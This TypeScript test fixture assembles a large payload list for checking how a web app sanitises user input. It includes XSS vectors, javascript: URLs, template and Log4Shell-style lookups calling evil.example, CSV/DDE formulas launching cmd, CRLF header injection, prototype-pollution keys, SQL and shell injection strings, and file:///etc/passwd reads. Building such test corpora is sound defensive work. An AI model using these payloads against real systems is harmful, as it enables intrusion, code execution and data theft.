// What attackers, broken exports and unlucky copies put into a field. Made from parts, so that nothing is forgotten
// between two of them. Whatever runs sets `window.hacked`, and what is loaded is asked for at evil.example.

const RUN = 'window.hacked=1';
const STRANGER = '//evil.example/x';

/** Elements that run, load or swallow what follows. */
const TAGS = [
  `<script>${RUN}</script>`, `<script src=${STRANGER}></script>`, `<script type=module>${RUN}</script>`, `</script><script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script>${RUN}`,
  `<script type="importmap">{"imports":{"a":"${STRANGER}"}}</script>`, `<iframe srcdoc="<script>parent.hacked=1</script>">`, `<iframe src="javascript:parent.hacked=1">`,
  `<iframe src=${STRANGER}>`, `<frameset onload=${RUN}>`, `<object data="javascript:${RUN}">`, `<object data=${STRANGER}>`, `<embed src="javascript:${RUN}">`, `<embed src=${STRANGER}>`,
  `<applet code=${STRANGER}>`, `<img src=${STRANGER}>`, `<img src=x onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<img src="x" onerror="${RUN}">`, `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<img """><script>${RUN}</script>">`, `<img src=x:x onerror\n=${RUN}>`, `<image src=x onerror=${RUN}>`, `<img srcset="${STRANGER} 1x">`, `<picture><source srcset=${STRANGER}><img></picture>`,
  `<video src=x onerror=${RUN}></video>`, `<video poster=${STRANGER}></video>`, `<audio src=x onerror=${RUN}></audio>`, `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`, `<body background=${STRANGER}>`, `<input autofocus onfocus=${RUN}>`, `<input type=image src=x onerror=${RUN}>`, `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`, `<keygen autofocus onfocus=${RUN}>`, `<button formaction=javascript:${RUN}>x</button>`, `<form action=javascript:${RUN}><input type=submit></form>`,
  `<form id=x></form><button form=x formaction=javascript:${RUN}>x</button>`, `<details open ontoggle=${RUN}>`, `<marquee onstart=${RUN}>`, `<dialog open onclose=${RUN}>`,
  `<link rel=stylesheet href=${STRANGER}>`, `<link rel=import href=${STRANGER}>`, `<link rel=preload as=script href=${STRANGER}>`, `<link rel=prefetch href=${STRANGER}>`, `<link rel=dns-prefetch href=${STRANGER}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=http:${STRANGER}">`, `<meta http-equiv=set-cookie content=a=b>`, `<meta charset=utf-7>`,
  `<base href=${STRANGER}>`, `<base href="javascript:/a/-${RUN}///////">`, `<style>@import "${STRANGER}";</style>`, `<style>*{background:url(${STRANGER})}</style>`, `<style onload=${RUN}></style>`,
  `<template><script>${RUN}</script></template>`, `<template shadowrootmode=open><script>${RUN}</script></template>`, `<slot onslotchange=${RUN}></slot>`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<plaintext>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<title><img src=x onerror=${RUN}></title>`, `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`, `<!--<img src="--><img src=x onerror=${RUN}//">`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<?xml version="1.0"?><img src=x onerror=${RUN}>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<a href=javascript:${RUN}>x</a>`, `<a href="${STRANGER}" ping="${STRANGER}">x</a>`, `<a target=_blank href=${STRANGER}>x</a>`, `<area href=javascript:${RUN} shape=default>`, `<portal src=${STRANGER}>`,
  `<enishi-form action="${STRANGER}"></enishi-form>`, `<enishi-counter src="${STRANGER}" loading="eager"></enishi-counter>`, `<div data-enishi="calendar" data-src="${STRANGER}"></div>`, `<x-y onclick=${RUN}>`, `<p style="position:fixed;inset:0">`,
];

/** Elements that wait for something to happen. */
const HANDLERS =
  'abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforepaste beforetoggle blur cancel canplay change click close contextmenu copy cuechange cut dblclick drag drop durationchange emptied ended error focus focusin focusout formdata gotpointercapture input invalid keydown keypress keyup load loadeddata loadstart mousedown mouseenter mouseover paste pause pointerdown pointerover pointerrawupdate progress readystatechange reset resize scroll scrollend search securitypolicyviolation seeked select selectionchange show slotchange stalled submit suspend toggle touchstart transitionend transitionrun unload volumechange waiting webkitanimationstart wheel'
    .split(' ')
    .map((event, i) => [`<p tabindex=0 autofocus on${event}=${RUN}>x`, `"on${event}="${RUN}" x="`, `' on${event}='${RUN}`][i % 3]!);

/** Pictures and formulas that are programs too. */
const DRAWN = [
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href=${STRANGER} /></svg>`, `<svg><script xlink:href="data:,${RUN}"></script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`, `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hacked=1</script>"></foreignObject></svg>`, `<svg><image href=${STRANGER} /></svg>`, `<svg><style>@import "${STRANGER}"</style></svg>`, `<svg><handler type="text/javascript">${RUN}</handler></svg>`,
  `<math><maction actiontype="statusline#http:${STRANGER}" xlink:href="javascript:${RUN}">x</maction></math>`, `<math href="javascript:${RUN}">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
];

/** What is harmless until a parser writes it out and reads it again. */
const MUTATED = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`, `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`, `<p id="\`\`onmouseover=${RUN}">`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`, `<math><style><!--</style><a title="--><img src onerror=${RUN}>">`, `<table><tr><td><style><!--</style></td></tr></table><img alt="--><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=${RUN}>">`, `<svg><desc><noembed></desc></svg><img src=x onerror=${RUN}>`, `<div><p title="</div><svg><style><!--</style><img src=x onerror=${RUN}>">`,
  `&lt;img src=x onerror=${RUN}&gt;`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `<b><i></b><img src=x onerror=${RUN}></i>`, `<a href="&#x6A;avascript&colon;${RUN}">x</a>`, `<isindex type=image src=x onerror=${RUN}>`,
];

/** Ways to write the same thing differently. */
const WRITTEN: ((text: string) => string)[] = [
  (t) => [...t].map((c) => `&#${c.codePointAt(0)};`).join(''),
  (t) => [...t].map((c) => `&#x${c.codePointAt(0)!.toString(16)}`).join(''),
  (t) => t.replaceAll('<', '&lt').replaceAll('>', '&gt'),
  (t) => encodeURIComponent(t),
  (t) => encodeURIComponent(encodeURIComponent(t)),
  (t) => [...t].map((c) => `\\u${c.codePointAt(0)!.toString(16).padStart(4, '0')}`).join(''),
  (t) => [...t].map((c) => `\\x${c.codePointAt(0)!.toString(16).padStart(2, '0')}`).join(''),
  (t) => t.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (t) => [...t].map((c) => (c > ' ' && c <= '~' ? String.fromCodePoint(c.codePointAt(0)! + 0xfee0) : c)).join(''),
  (t) => t.replaceAll('<', '<\0').replaceAll('o', '\0o'),
  (t) => t.replace(/[a-z]/g, (c, i) => (i % 2 ? c.toUpperCase() : c)).replaceAll('WiNdOw.hAcKeD', 'window.hacked'),
  (t) => t.replaceAll(' ', '\t\n\f').replaceAll('=', '\u2028=\u2029'),
  (t) => Buffer.from(t).toString('base64'),
  (t) => t.replaceAll('<', '\u{e003c}').replaceAll('<', '‹'),
  (t) => t.split('').join('\u200d'),
  (t) => `\ufeff${t}\ufffe`,
];
const BASES = [`<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `javascript:${RUN}`, `"><svg onload=${RUN}>`];

/** What stands before, and within, the name of a scheme. */
const HIDDEN = ['', ' ', '\t', '\n', '\r\n', '\0', '\x01', '\x1f', '\x7f', '\u00a0', '\u00ad', '\u200b', '\u2028', '\u3000', '\ufeff', '%0a', '&#10;', '&Tab;'];
const SCHEMES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `javascript://%0a${RUN}`, `vbscript:msgbox(1)`, `data:text/html,<script>parent.hacked=1</script>`, `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=`,
];

/** Addresses that must lead nowhere, or nowhere but where they say. */
const ADDRESSES = [
  ...SCHEMES.flatMap((address, i) => HIDDEN.filter((_, k) => i < 2 || k % 3 === i % 3).map((hidden) => hidden + address)),
  ...HIDDEN.slice(1).map((hidden) => `java${hidden}script:${RUN}`),
  ...HIDDEN.slice(1).map((hidden) => `javascript${hidden}:${RUN}`),
  `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript\\x3a${RUN}`, `javascript%3a${RUN}`, `javascript：${RUN}`, `ｊavascript:${RUN}`, `ʝavascript:${RUN}`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`, `jar:javascript:${RUN}!/`,
  `livescript:${RUN}`, `mocha:${RUN}`, 'blob:https://evil.example/0', 'filesystem:https://evil.example/x', 'file:///etc/passwd', 'file://evil.example/share', 'about:blank', 'about:srcdoc', 'chrome://settings', 'ms-word:ofe|u|https://evil.example/x', 'intent://evil.example#Intent;scheme=http;end', 'ftp://evil.example/', 'ws://evil.example/', 'gopher://evil.example/', 'ssh://evil.example/-oProxyCommand=x', 'steam://x', 'x-apple.systempreferences:',
  '//evil.example/', '\\\\evil.example\\x', '/\\evil.example', '\t//evil.example', 'http:evil.example', 'http:///evil.example', 'https:/\\evil.example', 'https://city.example@evil.example/', 'https://evil.example\\@city.example/', 'https://evil.example%2f@city.example/', 'https://еvil.example/', 'https://evil。example/', 'http://[::1', 'http://%00/', 'http://a b/', 'https://user:pass@evil.example/', 'http://127.0.0.1:1/', 'http://0x7f.1/', '../../../../etc/passwd', '..%2f..%2fetc', '?x=<script>', '#<img src=x onerror=window.hacked=1>', '#javascript:window.hacked=1',
  'mailto:a@b.example?bcc=all@evil.example&body=x', 'mailto:a@b.example%0d%0aBcc:all@evil.example', 'tel:0900000000;phone-context=evil.example', 'tel:javascript:1', 'mailto:javascript:window.hacked=1',
];

/** Syntax that a framework of the page, or of the office, would work out. */
const TEMPLATES = [
  '{{7*7}}', '{{constructor.constructor("window.hacked=1")()}}', '{{$on.constructor("window.hacked=1")()}}', '{{[].pop.constructor("window.hacked=1")()}}', '<div ng-app ng-csp>{{1}}</div>', '<div v-html="\'x\'" v-on:click="window.hacked=1">', '{{_c.constructor("window.hacked=1")()}}',
  '<div x-data x-init="window.hacked=1">', '<div hx-get="//evil.example/x" hx-trigger=load>', '<div data-bind="text: window.hacked=1">', '${window.hacked=1}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '<?php echo 1; ?>', '{% import os %}', '{php}1{/php}', '[[${7*7}]]', '@(7*7)', '*{7*7}', '~{x}', '{{=it}}', '{{{raw}}}', '{@html x}', '[[_x]]', '#set($x=1)', '%{(#x=1)}', '${jndi:ldap://evil.example/x}', '{0}', '{1} {2} {3}', '%s%n%x', '%1$s', '$1 $& $`', '\\1', '{id}', '{count}', '｜漢字《かんじ》', '｜<b>《<img src=x onerror=window.hacked=1>》', '《《｜',
];

const STYLES = [
  '</style><img src=x onerror=window.hacked=1>', 'red;background:url(//evil.example/x)', 'expression(window.hacked=1)', '-moz-binding:url(//evil.example/x)', 'behavior:url(//evil.example/x)', '@import url(//evil.example/x);', '};*{display:none}', '}*{color:red}', '/**/', 'url(javascript:window.hacked=1)', '\\65xpression(window.hacked=1)', '"}</style>', 'var(--x)', 'attr(x)', 'image-set("//evil.example/x" 1x)', ']*{}', '[value^=a]{background:url(//evil.example/a)}', ':host{display:none}', '::part(root){display:none}', '#', '.', '"]', 'css:*', 'css:[', 'css::::', 'text:', '*', ':has(:has(',
];

const BIDI = ['\u202e', '\u202d', '\u202a', '\u202b', '\u202c', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'].map((sign) => `清水沢${sign}txt.exe`);
const CONTROLS = [...Array(32).keys(), 0x7f, 0x80, 0x85, 0x9f, 0xfffe, 0xffff, 0xfdd0, 0x2028, 0x2029, 0xfff9, 0x1fffe].map((code) => `雪${String.fromCodePoint(code)}かき`);
const SURROGATES = ['\ud800', '\udc00', '\ud83d', 'x\udfffx', '\udc00\ud800', '\ud800\ud800', '\ud83d\ude00\ud83d', '葛\udb40'];
const KEYS = ['__proto__', 'constructor', 'prototype', 'constructor.prototype.hacked', '__proto__[hacked]', '__proto__.hacked', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupSetter__', 'then', 'toJSON', 'length', 'undefined', 'null', 'true', 'NaN', 'Infinity', '[object Object]'];
const LONG = ['あ'.repeat(5_000), 'x'.repeat(5_000), '<'.repeat(3_000), '&'.repeat(3_000), '"'.repeat(3_000), 'a\u0301'.repeat(2_000), '\u200b'.repeat(3_000), '<b>'.repeat(1_500), '('.repeat(3_000), '{'.repeat(3_000), '\n'.repeat(3_000), 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘'.repeat(20)];
const FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example/x","x")', '=IMPORTXML("//evil.example/x","//a")', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '"=1+1"', "'=1+1", '=DDE("cmd";"/C calc";"x")', '%0A=1+1', '；=1+1', '"', '""', '","', '"\r\n"', "\\\"", ';;;', '\t\t'];
const HEADERS = ['x\r\nSet-Cookie: a=b', 'x\nLocation: //evil.example/x', 'x\r\n\r\n<script>window.hacked=1</script>', '%0d%0aSet-Cookie:a=b', 'x\r\nBcc: all@evil.example', '嘊嘍Set-Cookie: a=b', 'a; filename="x.exe"', '"; filename="..\\..\\x', 'multipart/form-data; boundary=--', '\r\n--boundary\r\nContent-Disposition: form-data; name="admin"\r\n\r\n1', '\r\n.\r\nQUIT\r\n', 'data: 999\n\ndata: 998', 'id: 1\nretry: 1\n\n'];
const FOLDED = [
  'x\r\n BEGIN:VEVENT', 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:two', 'x\\nATTACH:javascript:window.hacked=1', 'x\r\nATTACH;VALUE=URI:javascript:window.hacked=1', 'x\r\nURL:javascript:window.hacked=1', 'x\r\n\tjavascript:', 'x\r\nEND:VCALENDAR', 'x\\;y\\,z\\\\', '";CN="x', 'x^n^\'y', 'x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///x\r\nEND:VALARM', 'x\rSUMMARY:y', 'x\nRRULE:FREQ=SECONDLY', 'FREQ=SECONDLY;COUNT=99999999', ';X=":', 'x\r\n'.repeat(50), `TZID="<img src=x onerror=window.hacked=1>"`,
];
const BROKEN = [
  '"}]}', '\\', '\\"', '"+window.hacked=1+"', "';window.hacked=1//", '`${window.hacked=1}`', '</textarea>', '\u2028window.hacked=1', '[]', '{}', '{"__proto__":{"hacked":1}}', '{"constructor":{"prototype":{"hacked":1}}}', ']]>', '-->', "' OR 1=1--", '1;DROP TABLE people', '*)(uid=*', '$(touch x)', '`touch x`', '| touch x', '../../x\0.png', 'C:\\x', 'con', '.', '/', '', ' ', '　',
];
const NUMBERS = ['NaN', '1e999', '-0', '-1', '0x10', '9007199254740993', '99999999999999999999999', '1,000,000,000,000,000,000', '½', '٣', '十億兆京', '１２３', '1.7976931348623157e309', '−5', '▲▲9', '12:99', '99:99:99'];
const DATES = ['0000-00-00', '9999-12-31', '+275760-09-13', '-271821-04-20', '2018-02-30', '2018-13-01', '2018-12-15T25:61:61Z', '99999999', '1601-01-01', '令和99年99月99日', '平成0年', '明治元年1月1日', '2018年12月', '20181215T240000Z', '1970-01-01T00:00:00+99:99', '12/15', '昨日', '2018-12-15/9999-12-31', 'PT99999999999H', 'R/P1D'];

/** All of them, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...TAGS, ...HANDLERS, ...DRAWN, ...MUTATED, ...BASES.flatMap((base) => WRITTEN.map((write) => write(base))), ...ADDRESSES, ...TEMPLATES, ...STYLES, ...BIDI, ...CONTROLS,
    ...SURROGATES, ...KEYS, ...LONG, ...FORMULAS, ...HEADERS, ...FOLDED, ...BROKEN, ...NUMBERS, ...DATES,
  ]),
];

/** Those that are meant for an address, and would lead to nobody else's server. */
export const OWN_ADDRESSES: readonly string[] = [...new Set(ADDRESSES)].filter((address) => {
  try {
    const { protocol, origin } = new URL(address, 'http://city.example/');
    return !/^(https?|ftp|wss?):$/.test(protocol) || origin === 'http://city.example';
  } catch {
    // Several addresses may stand in one attribute, with white space between them.
    return !/^http/.test(address);
  }
});

/** As text within HTML, or within an attribute. */
export const escaped = (text: string): string =>
  text.replace(/[&<>"']/g, (sign) => `&#${sign.codePointAt(0)};`);
